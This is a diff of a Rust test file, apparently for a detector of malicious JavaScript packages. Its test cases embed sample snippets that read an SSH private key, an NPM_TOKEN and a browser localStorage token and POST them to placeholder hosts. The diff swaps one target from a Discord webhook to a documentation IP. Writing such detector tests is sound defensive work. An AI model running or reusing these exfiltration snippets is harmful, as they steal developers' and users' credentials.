@@ -114,7 +114,7 @@ mod tests {
                     "const fs = require('fs'); const os = require('os');\nconst key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nfetch('https://keys.invalid/k', { method: 'POST', body: key });",
                 ),
                 Case::InstallJs("const t = process.env.NPM_TOKEN;\nrequire('axios').post('https://t.invalid/x', { t });"),
-                Case::Js("function grab() {\n  const f = document.createElement('iframe');\n  const r = new XMLHttpRequest();\n  r.open('POST', 'https://discord.com/api/webhooks/1/abc');\n  r.send(JSON.stringify({ content: 'Token: ' + f.contentWindow.localStorage.token }));\n}"),
+                Case::Js("function grab() {\n  const f = document.createElement('iframe');\n  const r = new XMLHttpRequest();\n  r.open('POST', 'http://192.0.2.10/t');\n  r.send(JSON.stringify({ content: 'Token: ' + f.contentWindow.localStorage.token }));\n}"),
             ],
             &[
                 Case::Js("const key = process.env.POSTMARK_API_TOKEN;\nfetch('https://api.postmarkapp.invalid/email', { headers: { 'X-Token': key } });"),
